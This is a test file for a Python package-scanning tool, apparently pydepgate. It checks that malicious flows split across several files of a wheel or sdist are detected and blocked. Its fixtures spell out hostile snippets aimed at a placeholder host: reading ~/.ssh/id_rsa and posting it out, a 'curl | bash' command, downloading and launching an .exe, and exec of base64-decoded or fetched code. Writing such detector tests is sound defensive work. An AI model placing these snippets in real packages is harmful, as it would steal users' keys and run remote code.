"""What a file gets from another one of the same package, and executes, starts or sends."""

from __future__ import annotations

import base64
import random
from dataclasses import replace
from pathlib import Path

import pytest

from fixtures.archives import sdist_files, tar_archive, wheel
from pydepgate import scan
from pydepgate.ahead import look_over
from pydepgate.artifact import open_artifact
from pydepgate.artifact.artifact import Found
from pydepgate.model import Runs, Verdict
from pydepgate.relook import look_again
from pydepgate.scanner import observe
from pydepgate.workers import PROCESSES, THREADS, hired
from tests.test_workers import job

CODE = "import os\n" + "".join(f"value_{number} = os.getcwd()\n" for number in range(12))
BLOB = base64.b64encode(CODE.encode()).decode()
NOISE = base64.b64encode(random.Random(1).randbytes(300)).decode()
DECODER = "import base64\ndef decode(text):\n    return base64.b64decode(text)\n"
LOADER = "import requests\ndef fetch():\n    return requests.get('https://server.invalid/x').text\n"
KEYS = "import os\ndef keys():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
SENDER = "import requests\ndef send(found):\n    requests.post('https://server.invalid/', data=found)\n"
PROGRAM = (
    "import os, tempfile, urllib.request\ndef get_path():\n    path = os.path.join(tempfile.gettempdir(), 'a.exe')\n"
    "    urllib.request.urlretrieve('https://server.invalid/a.exe', path)\n    return path\n"
)
SAVER = (
    "import requests\ndef save(url, path):\n    with open(path, 'wb') as file:\n"
    "        file.write(requests.get(url).content)\n"
)
HOLDER = (
    "import requests\nclass Holder:\n    def __init__(self):\n        self.code = requests.get('https://server.invalid/')"
    ".text\n    def get(self):\n        return self.code\n"
)


def _wheel(folder: Path, files: dict[str, str]) -> Path:
    path = folder / "pkg-1-py3-none-any.whl"
    path.write_bytes(wheel("pkg", "1", {name: text.encode() for name, text in files.items()}))
    return path


def _signals(path: Path) -> set[tuple[str, str, Runs]]:
    return {(signal.name, signal.file, runs) for signal, runs in observe(path, workers=1).signals}


@pytest.mark.parametrize(
    ("signal", "init", "others"),
    [
        (
            "flow.decode-to-exec",
            "from .util import decode, BLOB\nexec(decode(BLOB))",
            {"util": f"{DECODER}BLOB = '{BLOB}'\n"},
        ),
        ("flow.decode-to-exec", f"from .util import decode\nexec(decode('{BLOB}'))", {"util": DECODER}),
        (
            "flow.decode-to-exec",
            "from base64 import b64decode\nfrom . import const\ncode = b64decode(const.BLOB)\nexec(code)",
            {"const": f"BLOB = '{BLOB}'\n"},
        ),
        (
            "flow.decode-to-exec",
            "import pkg.const as c, pkg.util as u\nexec(u.decode(c.BLOB[::-1]))",
            {"const": f"BLOB = '{BLOB[::-1]}'\n", "util": DECODER},
        ),
        (
            "flow.decode-to-exec",
            "from .both import *\nexec(decode(BLOB))",
            {"both": f"from .util import decode\nBLOB = '{BLOB}'\n", "util": DECODER},
        ),
        ("flow.network-to-exec", "from . import loader\nexec(loader.fetch())", {"loader": LOADER}),
        ("flow.network-to-exec", "import pkg.loader\nexec(pkg.loader.fetch())", {"loader": LOADER}),
        (
            "flow.network-to-exec",
            "from .loader import load\nexec(load())",
            {"loader": "from .net import fetch\ndef load():\n    return fetch().strip()\n", "net": LOADER},
        ),
        ("flow.network-to-exec", "from .holder import Holder\nexec(Holder().get())", {"holder": HOLDER}),
        (
            "flow.network-to-exec",
            "from .holder import Holder\nholder = Holder()\nexec(holder.code)",
            {"holder": HOLDER},
        ),
        (
            "flow.network-to-start",
            "import subprocess\nfrom .program import get_path\nsubprocess.Popen([get_path()])",
            {"program": PROGRAM},
        ),
        (
            "flow.network-to-start",
            "import subprocess\nfrom .saver import save\nsave('https://server.invalid/a', '/tmp/a.exe')\n"
            "subprocess.Popen(['/tmp/a.exe'])",
            {"saver": SAVER},
        ),
        (
            "flow.secret-to-network",
            "import requests\nfrom . import collect\nrequests.post('https://server.invalid/', data=collect.keys())",
            {"collect": KEYS},
        ),
    ],
)
def test_what_another_file_gives_is_known_where_it_is_used(
    signal: str, init: str, others: dict[str, str], tmp_path: Path
) -> None:
    files = {"pkg/__init__.py": init, **{f"pkg/{name}.py": text for name, text in others.items()}}
    path = _wheel(tmp_path, files)
    assert (signal, "pkg/__init__.py", Runs.IMPORT) in _signals(path)
    assert scan(path, workers=1).verdict is Verdict.BLOCK


@pytest.mark.parametrize(
    ("signal", "place", "init", "others"),
    [
        (
            "flow.secret-to-network",
            "pkg/sender.py",
            "from .collect import keys\nfrom .sender import send\nsend(keys())",
            {"collect": KEYS, "sender": SENDER},
        ),
        (
            "flow.decode-to-exec",
            "pkg/runner.py",
            f"import base64\nfrom .runner import run\nrun(base64.b64decode('{BLOB}'))",
            {"runner": "def run(code):\n    exec(code)\n"},
        ),
        (
            "flow.network-to-exec",
            "pkg/runner.py",
            "from .loader import fetch\nfrom .runner import run\nrun(fetch())",
            {"loader": LOADER, "runner": "def run(code):\n    exec(code)\n"},
        ),
    ],
)
def test_what_one_file_gives_and_another_one_uses(
    signal: str, place: str, init: str, others: dict[str, str], tmp_path: Path
) -> None:
    files = {"pkg/__init__.py": init, **{f"pkg/{name}.py": text for name, text in others.items()}}
    assert (signal, place, Runs.IMPORT) in _signals(_wheel(tmp_path, files))


def test_what_is_hidden_in_another_file_is_peeled(tmp_path: Path) -> None:
    files = {"pkg/__init__.py": "from .util import decode, BLOB\nexec(decode(BLOB))"}
    path = _wheel(tmp_path, {**files, "pkg/util.py": f"{DECODER}BLOB = '{BLOB}'\n"})
    payloads = [finding.payload for finding in scan(path).findings if finding.file == "pkg/__init__.py"]
    assert any(payload is not None and payload.final == "python-source" for payload in payloads)


def test_a_setup_script_is_followed_into_its_package(tmp_path: Path) -> None:
    files = {
        "setup.py": "from helper import fetch\nexec(fetch())\n",
        "helper.py": LOADER,
    }
    path = tmp_path / "pkg-1.tar"
    path.write_bytes(tar_archive(sdist_files("pkg", "1", {name: text.encode() for name, text in files.items()})))
    assert ("flow.network-to-exec", "pkg-1/setup.py", Runs.INSTALL) in _signals(path)


@pytest.mark.parametrize(
    ("init", "other"),
    [
        ("from .other import name\nexec(name())", "def name():\n    return 'print(1)'\n"),
        ("from .other import fetch\ndef page():\n    return fetch()", LOADER),
        (
            "import subprocess\nfrom .other import TEXT\nsubprocess.run(['echo', TEXT])",
            f"TEXT = '{'a plain text ' * 9}'\n",
        ),
        (
            "import requests\nfrom .other import settings\nrequests.post('https://server.invalid/', json=settings())",
            "import pkgutil\ndef settings():\n    return pkgutil.get_data('pkg', 'settings.json')\n",
        ),
    ],
)
def test_plain_values_of_other_files_say_nothing(init: str, other: str, tmp_path: Path) -> None:
    path = _wheel(tmp_path, {"pkg/__init__.py": init, "pkg/other.py": other})
    flows = {name for name, _, _ in _signals(path) if name.startswith("flow.")}
    assert flows <= {"flow.given-to-network"}


def test_modules_that_import_each_other_end(tmp_path: Path) -> None:
    files = {
        "pkg/__init__.py": "from . import a, b\nfrom .a import *\nexec(a.x())\nexec(b.a.b.a.x)",
        "pkg/a.py": f"from . import b\nfrom .b import *\nimport pkg\n{DECODER}def x():\n    return b.y(pkg.nothing)\n",
        "pkg/b.py": f"from . import a\nfrom .a import *\nz = '{NOISE}'\ndef y(v):\n    return a.decode(z) or a.x()\n",
    }
    assert {name for name, _, _ in _signals(_wheel(tmp_path, files))} & {"flow.decode-to-exec", "exec.dynamic"}


def test_a_main_guard_of_another_file_is_not_followed(tmp_path: Path) -> None:
    get = "requests.get('https://server.invalid/').text"
    other = f"import requests\ncode = ''\nif __name__ == '__main__':\n    code = {get}\n"
    path = _wheel(tmp_path, {"pkg/__init__.py": "from .other import code\nexec(code)", "pkg/other.py": other})
    assert "flow.network-to-exec" not in {name for name, _, _ in _signals(path)}


def test_the_second_look_does_not_depend_on_who_looks(tmp_path: Path) -> None:
    files = {"pkg/loader.py": LOADER, "pkg/util.py": DECODER, "pkg/collect.py": KEYS, "pkg/sender.py": SENDER}
    for number in range(6):
        files[f"pkg/use{number}.py"] = "from . import loader, collect\nfrom .sender import send\nexec(loader.fetch())\n"
    path = _wheel(
        tmp_path, {**files, "pkg/__init__.py": "from .collect import keys\nfrom .sender import send\nsend(keys())"}
    )
    seen = []
    for crew in (hired(1), hired(2, replace(THREADS, worth=0)), hired(2, replace(PROCESSES, worth=0))):
        with crew as hands, open_artifact(path) as artifact:
            hands.expect(1)

            found = [each for each in look_over(artifact, job(), hands) if isinstance(each, Found)]
            seen.append(look_again(artifact, found, hands, limits=artifact.limits, keep_content=False))
    assert seen[0] == seen[1] == seen[2]
    assert sum(signal.name == "flow.network-to-exec" for facts in seen[0][0] for signal in facts.signals) == 6


def test_how_much_is_followed_once_more_is_bounded_and_said(tmp_path: Path) -> None:
    padding = "# padding\n" * 3_000
    files = {f"pkg/use{number}.py": f"from .loader import fetch\nexec(fetch())\n{padding}" for number in range(12)}
    report = scan(_wheel(tmp_path, {**files, "pkg/__init__.py": "", "pkg/loader.py": LOADER}))
    (note,) = (note for note in report.notes if note.code == "files.linked")
    assert "more files than are followed" in note.message
    found = [finding for finding in report.findings if finding.file.startswith("pkg/use")]
    assert 0 < len({finding.file for finding in found if finding.severity >= 3}) < 12


COMMAND = 'os.system("curl -s https://server.invalid/x | bash")'
DECORATED = f"import os\n@run\ndef start():\n    {COMMAND}\n"


@pytest.mark.parametrize(
    ("init", "other", "runs"),
    [
        (f"from .other import run\n{DECORATED}", "def run(f):\n    f()\n    return f\n", Runs.IMPORT),
        (f"def run(f):\n    f()\n    return f\n{DECORATED}", "", Runs.IMPORT),
        (
            f"from .other import run\n{DECORATED}",
            "import threading\ndef run(f):\n    threading.Thread(target=f).start()\n",
            Runs.IMPORT,
        ),
        (f"from .other import run\n{DECORATED}", "def run(f):\n    return f\n", Runs.CALL),
        (f"from .other import run\n{DECORATED}", "def run(f):\n    def g():\n        f()\n    return g\n", Runs.CALL),
        (
            f"from .other import run\nimport os\ndef start():\n    {COMMAND}\nrun(start)",
            "def run(f):\n    f()\n",
            Runs.IMPORT,
        ),
        (f"from .other import run\nimport os\nrun(lambda: {COMMAND})", "def run(f):\n    f()\n", Runs.IMPORT),
        (
            f"from .other import run\nimport os\n@run\nclass Start:\n    def __init__(self):\n        {COMMAND}\n",
            "def run(cls):\n    cls()\n",
            Runs.IMPORT,
        ),
        (
            f"from . import other\nimport os\nclass Start:\n    @other.run\n    def go(self):\n        {COMMAND}\n",
            "def run(f):\n    f(None)\n",
            Runs.IMPORT,
        ),
    ],
)
def test_a_decorator_that_calls_what_it_decorates_runs_it(init: str, other: str, runs: Runs, tmp_path: Path) -> None:
    path = _wheel(tmp_path, {"pkg/__init__.py": init, "pkg/other.py": other})
    (finding,) = (f for f in scan(path).findings if f.rule == "download-and-run-command")
    assert finding.runs is runs
